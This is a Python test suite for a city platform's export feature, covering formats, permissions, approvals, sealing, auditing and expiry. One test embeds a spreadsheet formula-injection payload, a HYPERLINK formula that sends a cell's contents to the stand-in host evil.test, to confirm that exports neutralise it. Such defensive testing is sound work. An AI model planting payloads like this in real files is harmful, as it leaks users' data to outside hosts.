"""Asking, deciding, running, downloading: through the front door, with the worker's own code."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import datetime
from typing import TYPE_CHECKING, Any

import orjson
import pytest
from python_calamine import CalamineWorkbook

from cityloom.core.clock import CIVIL_TIME
from cityloom.core.crypto import ContentKey, UnreadableEnvelope
from cityloom.core.errors import Forbidden
from cityloom.core.ids import decode_id, encode_id, new_id
from cityloom.exports import service
from cityloom.exports.cli import exported
from cityloom.exports.models import Export
from cityloom.exports.sealing import unsealed
from cityloom.exports.service import Asked, rows
from cityloom.files.store import FileStore
from cityloom.testing.exports import APPROVER

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from uuid import UUID

    from cityloom.testing.exports import ExportCity

ADMIN = "city_administrator"
AREAS = """{ areas(orderBy: [{ by: CODE, direction: DESC }]) { nodes {
  id code name isOpen depth changedAt parent { title: name code } children(first: 9) { totalCount nodes { name } }
  ancestors { name depth } } } }"""
PHONES = "{ residents { edges { node { id name phone } cursor } } }"
VARIABLES = "{ exports { nodes { purpose variables } } }"
DEEP = "{ areas { nodes { code descendants(first: 100) { nodes { code children(first: 100) { nodes { code } } } } } } }"
EXPORT = "... on Export { id state countedRows rowBound approvalReasons protectedFields }"


async def request(city: ExportCity, role: str | None, document: str, **more: Any) -> dict[str, Any]:
    values = {"document": document, "purpose": "季度统计 quarterly"} | more
    return await city.mutate(role, "exportRequest", values, EXPORT)


async def show(city: ExportCity, export_id: str, selection: str) -> dict[str, Any]:
    document = f"query ($id: ID!) {{ export(id: $id) {{ {selection} }} }}"
    found: dict[str, Any] = await city.data(ADMIN, document, {"id": export_id})
    return found


async def ready(city: ExportCity, role: str, document: str, **more: Any) -> str:
    """The id of an export that needed nobody and has run."""
    made = await request(city, role, document, **more)
    assert made["state"] == "QUEUED", made
    await city.exporter.run_due()
    assert (await show(city, made["id"], "state failure")) == {"state": "READY", "failure": None}
    return str(made["id"])


def row_id(city: ExportCity, export_id: str) -> UUID:
    found = decode_id(export_id, city.id, "xprt")
    assert found is not None
    return found


async def key_of(city: ExportCity, export_id: UUID) -> ContentKey:
    """The key of an export's file."""
    async with city.work() as work:
        export = await work.session.get_one(Export, (city.id, export_id))
        return await service.file_key_of(work.services, export)


def unzipped(content: bytes) -> tuple[str, dict[str, Any]]:
    """The data file of a ZIP as text, and its manifest, whose hash must be the data's."""
    with zipfile.ZipFile(io.BytesIO(content)) as found:
        manifest: dict[str, Any] = orjson.loads(found.read("manifest.json"))
        data = found.read(manifest["file"]["name"])
    assert hashlib.sha256(data).hexdigest() == manifest["file"]["sha256"]
    return data.decode("utf-8-sig"), manifest


def local(moment: str) -> datetime:
    return datetime.fromisoformat(moment).astimezone(CIVIL_TIME).replace(tzinfo=None, microsecond=0)


async def test_every_format_holds_what_graphql_answers(city: ExportCity) -> None:
    nodes = (await city.data(ADMIN, AREAS.replace("areas(", "areas(first: 100, ")))["nodes"]
    assert len(nodes) == 8
    names = ["; ".join(child["name"] for child in node["children"]["nodes"]) for node in nodes]

    text, manifest = unzipped((await city.fetch(ADMIN, await ready(city, ADMIN, AREAS))).content)
    header, *lines = csv.reader(io.StringIO(text))
    assert header == [
        *("编号", "编码", "名称", "是否有效", "层级深度", "修改时间"),
        *("title", "上级 · 编码", "下级区域 · 总数", "下级区域 · 名称", "上级区域"),
    ]
    for node, line, children in zip(nodes, lines, names, strict=True):
        parent = node["parent"] or {"title": "", "code": ""}
        plain = [node["id"], node["code"], node["name"], "true", str(node["depth"]), node["changedAt"]]
        assert line[:7] == [*plain, parent["title"]]
        assert line[7:10] == [parent["code"], str(node["children"]["totalCount"]), children]
        assert orjson.loads(line[10] or "[]") == node["ancestors"]
    assert (manifest["rows"], manifest["is_truncated"], manifest["purpose"]) == (8, False, "季度统计 quarterly")
    assert manifest["requested_by"] == f"{city.twin.canary}city_administrator"
    assert manifest["watermark"] == (await show(city, manifest["export"], "watermark"))["watermark"]
    assert manifest["document_sha256"] == hashlib.sha256(AREAS.encode()).hexdigest()

    text, _ = unzipped((await city.fetch(ADMIN, await ready(city, ADMIN, AREAS, format="JSONL"))).content)
    assert [orjson.loads(line) for line in text.splitlines()] == nodes

    sheet = await ready(city, ADMIN, AREAS, format="XLSX", headings="EN")
    got = await city.fetch(ADMIN, sheet)
    assert hashlib.sha256(got.content).hexdigest() == (await show(city, sheet, "sha256"))["sha256"]
    book = CalamineWorkbook.from_filelike(io.BytesIO(got.content))
    assert book.sheet_names == ["Data", "About"]
    cells: list[Any] = book.get_sheet_by_name("Data").to_python()
    assert cells[0][:4] == ["Id", "Code", "Name", "Is open"]
    for node, line, children in zip(nodes, cells[1:], names, strict=True):
        assert line[1:5] == [node["code"], node["name"], node["isOpen"], node["depth"]]
        assert line[5] == local(node["changedAt"])
        assert line[8:10] == [node["children"]["totalCount"], children]
    about: dict[Any, Any] = {row[0]: row[1] for row in book.get_sheet_by_name("About").to_python()}
    assert about["Purpose"] == "季度统计 quarterly"
    with zipfile.ZipFile(io.BytesIO(got.content)) as parts:
        page = parts.read("xl/worksheets/sheet1.xml").decode()
        properties = parts.read("docProps/custom.xml").decode() + parts.read("docProps/core.xml").decode()
    assert about["Watermark"] in page
    assert about["Watermark"] in properties


async def test_a_group_is_a_row(city: ExportCity) -> None:
    text, _ = unzipped((await city.fetch(ADMIN, await ready(city, ADMIN, "{ caseStats { keys count late } }"))).content)
    assert list(csv.reader(io.StringIO(text))) == [["分组", "数量", "超期数"], ["", "0", "0"]]


async def test_a_formula_stays_a_text(city: ExportCity) -> None:
    area, formula = city.twin.ids["Area"][-1], '=HYPERLINK("https://evil.test/"&A1)'
    await city.twin.make(
        "buildingCreate", {"areaId": area, "code": "F1", "name": formula, "address": "+86"}, "Building"
    )
    document = '{ buildings(where: { code: { eq: "F1" } }) { nodes { name address } } }'
    text, _ = unzipped((await city.fetch(ADMIN, await ready(city, ADMIN, document))).content)
    assert list(csv.reader(io.StringIO(text)))[1] == [f"'{formula}", "'+86"]
    got = await city.fetch(ADMIN, await ready(city, ADMIN, document, format="XLSX"))
    with zipfile.ZipFile(io.BytesIO(got.content)) as parts:
        page = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in page
    assert "HYPERLINK" in page


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        ("{ areas(first: 5) { nodes { code } } }", "NOT_WHOLE"),
        ("{ areas { totalCount } }", "NOT_WHOLE"),
        ("{ areas { nodes { code } } buildings { nodes { code } } }", "NOT_WHOLE"),
        ("{ city { slug } }", "NOT_WHOLE"),
        ("{ areas { nodes { nothing } } }", "DOCUMENT_NOT_TAKEN"),
        ("mutation { exportCancel(id: 1) { __typename } }", "DOCUMENT_NOT_TAKEN"),
        ("{", "DOCUMENT_NOT_TAKEN"),
        ("query ($a: ID!) { areas(where: { id: { eq: $a } }) { nodes { code } } }", "DOCUMENT_NOT_TAKEN"),
    ],
)
async def test_what_is_no_whole_list_is_refused(city: ExportCity, document: str, reason: str) -> None:
    before = await city.footprint()
    made = await request(city, ADMIN, document)
    assert made.get("reason") == reason, made
    assert await city.footprint() == before


async def test_who_may_ask_and_who_sees_it(city: ExportCity, alder: Any) -> None:
    before = await city.footprint()
    for role in (None, "auditor", "grid_worker"):
        assert (await request(city, role, AREAS))["code"] == "FORBIDDEN"
    assert (await request(city, "street_lead", AREAS, purpose="  x "))["reason"] == "PURPOSE_MISSING"
    assert (await request(city, "analyst", "{ auditRecords { nodes { id } } }"))["code"] == "FORBIDDEN"
    assert (await request(city, "analyst", VARIABLES))["reason"] == "FIELDS_FORBIDDEN"
    assert await city.footprint() == before
    mine = (await request(city, "street_lead", AREAS))["id"]
    assert (await request(city, "community_worker", PHONES))["countedRows"] == 2
    await city.exporter.run_due()
    seen = "query ($id: ID!) { export(id: $id) { id variables } }"
    for role, finds in (("street_lead", True), ("community_worker", False), ("auditor", True), ("grid_worker", False)):
        answer = (await city.twin.send(role, seen, {"id": mine})).json()
        assert ((answer.get("data") or {}).get("export") is not None) is finds, role
    foreign = encode_id("xprt", alder.id, row_id(city, mine))
    for id_ in (foreign, encode_id("xprt", alder.id, new_id()), mine):
        found = (await alder.send(ADMIN, seen, {"id": id_})).json()
        assert found["data"] == {"export": None}
    assert (await city.by_id(APPROVER, "exportDownload", mine))["reason"] == "NOT_YOUR_EXPORT"


async def test_a_second_person_approves(city: ExportCity) -> None:
    for _ in range(4):
        await request(city, ADMIN, AREAS, variables={"unused": "值"})
    await city.exporter.run_due()
    made = await request(city, ADMIN, VARIABLES)
    assert (made["state"], made["approvalReasons"]) == ("PENDING", ["PROTECTED_FIELDS"])
    assert made["protectedFields"] == ["exports.export.variables"]
    assert await city.exporter.run_due() == 0
    before = await city.footprint()
    own = await city.mutate(ADMIN, "exportApprove", {"id": made["id"]}, EXPORT)
    assert (own["code"], own["reason"]) == ("FORBIDDEN", "OWN_EXPORT")
    assert (await city.mutate("analyst", "exportApprove", {"id": made["id"]}, EXPORT))["code"] == "FORBIDDEN"
    over = await city.mutate(APPROVER, "exportApprove", {"id": made["id"], "rowBound": made["countedRows"] + 1}, EXPORT)
    assert over["reason"] == "BOUND_WRONG"
    assert await city.footprint() == before
    approved = await city.mutate(APPROVER, "exportApprove", {"id": made["id"], "rowBound": 3, "note": "三行"}, EXPORT)
    assert (approved["state"], approved["rowBound"]) == ("QUEUED", 3)
    assert await city.exporter.run_due() == 1
    text, manifest = unzipped((await city.fetch(ADMIN, made["id"])).content)
    assert (manifest["rows"], manifest["is_truncated"]) == (3, True)
    assert manifest["approved_by"] == f"{city.twin.canary}{APPROVER}"
    assert len(list(csv.reader(io.StringIO(text)))) == 4
    again = await city.mutate(APPROVER, "exportApprove", {"id": made["id"]}, EXPORT)
    assert again["reason"] == "EXPORT_NOT_PENDING"


async def test_what_nobody_approved_is_not_delivered(city: ExportCity) -> None:
    """Whatever put it into the queue: the worker looks for itself what would be told in full."""
    made = await request(city, ADMIN, VARIABLES)
    async with city.work() as work:
        export = await work.session.get_one(Export, (city.id, row_id(city, made["id"])))
        await rows.queue(work, export)
    await city.exporter.run_due()
    found = await show(city, made["id"], "state failure rowCount")
    assert (found["state"], found["rowCount"]) == ("FAILED", None)
    assert "exports.export.variables" in found["failure"]


async def test_what_is_told_counts_not_the_rows_alone(city: ExportCity) -> None:
    made = await request(city, ADMIN, DEEP)
    assert (made["state"], made["approvalReasons"], made["countedRows"]) == ("PENDING", ["ROWS"], 8)
    rejected = await city.mutate(APPROVER, "exportReject", {"id": made["id"], "note": "太多"}, EXPORT)
    assert rejected["state"] == "REJECTED"
    assert (await city.by_id(ADMIN, "exportCancel", made["id"]))["reason"] == "EXPORT_OVER"
    late = await request(city, ADMIN, DEEP)
    await city.wait(hours=72)
    assert (await city.mutate(APPROVER, "exportApprove", {"id": late["id"]}, EXPORT))["reason"] == "EXPORT_NOT_PENDING"
    async with city.work() as work:
        assert await service.expire(work) >= 1
    assert (await show(city, late["id"], "state"))["state"] == "EXPIRED"


async def test_rights_hold_when_it_is_run_and_when_it_is_fetched(city: ExportCity) -> None:
    membership = await city.join("leaver", "analyst")
    first, second = await request(city, "leaver", AREAS), await request(city, "leaver", AREAS)
    assert await city.exporter.run_one(city.id)
    assert (await city.fetch("leaver", first["id"])).status_code == 200
    link = (await city.by_id("leaver", "exportDownload", first["id"], "... on ExportDownload { url }"))["url"]
    await city.by_id(ADMIN, "membershipRevoke", membership)
    assert await city.exporter.run_one(city.id)
    after = await show(city, second["id"], "state failure rowCount")
    assert (after["state"], after["rowCount"]) == ("FAILED", None)
    assert "areas.area.read" in after["failure"]
    assert (await city.by_id("leaver", "exportDownload", first["id"]))["code"] == "FORBIDDEN"
    # A link is good for its few minutes, and for no other place.
    assert (await city.twin.client.get(link)).status_code == 200
    assert (await city.twin.client.get(link.replace("/exports/", "/files/"))).status_code == 404
    city.clock.advance(minutes=20)
    assert (await city.twin.client.get(link)).status_code == 404


async def test_who_may_read_less_now_does_not_get_the_file(city: ExportCity) -> None:
    codes = {await _code(city, id_): id_ for id_ in city.twin.ids["Area"]}
    wide = await city.join("narrowed", "analyst")
    made = await ready(city, "narrowed", AREAS)
    await city.by_id(ADMIN, "membershipRevoke", wide)
    accounts = await city.data(ADMIN, '{ accounts(where: { login: { eq: "narrowed" } }) { nodes { id } } }')
    place = {"scopeKind": "AREA", "areaId": codes["999901001"]}
    grant = {"accountId": accounts["nodes"][0]["id"], "role": "analyst"} | place
    await city.twin.make("membershipGrant", grant, "Membership")
    assert (await city.by_id("narrowed", "exportDownload", made))["reason"] == "RIGHTS_NARROWED"
    again = await ready(city, "narrowed", AREAS)
    assert (await city.fetch("narrowed", again)).status_code == 200


async def _code(city: ExportCity, id_: str) -> str:
    return str((await city.data(ADMIN, "query ($id: ID!) { area(id: $id) { code } }", {"id": id_}))["code"])


async def test_cancelling_stops_a_worker(city: ExportCity) -> None:
    made = await request(city, ADMIN, AREAS)
    claim = await city.exporter.claim(city.id)
    assert claim is not None
    assert await city.exporter.claim(city.id) is None
    assert (await show(city, made["id"], "state rowsDone")) == {"state": "RUNNING", "rowsDone": 0}
    assert (await city.by_id(ADMIN, "exportCancel", made["id"], "... on Export { state }"))["state"] == "CANCELLED"
    await city.exporter.carry_out(claim)
    assert (await show(city, made["id"], "state rowCount")) == {"state": "CANCELLED", "rowCount": None}
    store: FileStore = city.platform.works.services[FileStore]
    with pytest.raises(FileNotFoundError):
        await store.size(city.id, claim.id)


async def test_a_claim_runs_out_and_is_given_up_at_last(city: ExportCity) -> None:
    made = await request(city, ADMIN, AREAS)
    for _ in range(3):
        assert await city.exporter.claim(city.id) is not None
        city.clock.advance(minutes=3)
    assert await city.exporter.run_one(city.id) is False
    found = await show(city, made["id"], "state failure")
    assert (found["state"], found["failure"]) == ("FAILED", "已尝试 3 次仍未完成。")


async def test_a_file_is_sealed_audited_and_deleted(city: ExportCity) -> None:
    made = await ready(city, ADMIN, AREAS, purpose="档案核对")
    export_id = row_id(city, made)
    store: FileStore = city.platform.works.services[FileStore]
    key = await key_of(city, export_id)
    size = await store.size(city.id, key.thing_id)
    kept = bytearray(b"".join([part async for part in store.read(city.id, key.thing_id, start=0, end=size)]))
    assert b"data.csv" not in kept
    plain = b"".join([part async for part in unsealed(key, store)])
    assert plain.startswith(b"PK")
    assert (await city.fetch(ADMIN, made)).content == plain
    kept[-1] ^= 1
    await store.put(city.id, key.thing_id, bytes(kept))
    with pytest.raises(UnreadableEnvelope):
        assert [part async for part in unsealed(key, store)]
    document = "{ auditRecords(orderBy: [{ by: RECORDED, direction: DESC }]) { nodes { action purpose } } }"
    entries = (await city.data(ADMIN, document))["nodes"]
    told = {entry["action"] for entry in entries if entry["purpose"] == "档案核对"}
    assert told == {f"exports.export.{verb}" for verb in ("request", "complete", "download", "fetch")}
    assert (await show(city, made, "downloadCount"))["downloadCount"] == 1
    await city.wait(hours=168)
    async with city.work() as work:
        await service.expire(work)
    assert (await show(city, made, "state"))["state"] == "EXPIRED"
    assert (await city.by_id(ADMIN, "exportDownload", made))["reason"] == "EXPORT_NOT_READY"
    with pytest.raises(FileNotFoundError):
        await store.size(city.id, key.thing_id)


async def test_the_command_line_has_an_accounts_rights_and_no_others(city: ExportCity) -> None:
    works = city.platform.works
    found = await exported(works, city.twin.slug, "community-worker", Asked(PHONES, "命令行导出", "JSONL"))
    assert (found.state, found.rows, found.content is None) == ("READY", 2, False)
    content = b"".join([block async for block in found.content or _nothing()])
    assert len(unzipped(content)[0].splitlines()) == 2
    with pytest.raises(Forbidden):
        await exported(works, city.twin.slug, "auditor", Asked(PHONES, "命令行导出"))
    waiting = await exported(works, city.twin.slug, "city-administrator", Asked(DEEP, "命令行导出"))
    assert (waiting.state, waiting.content) == ("PENDING", None)


async def _nothing() -> AsyncIterator[bytes]:
    return
    yield
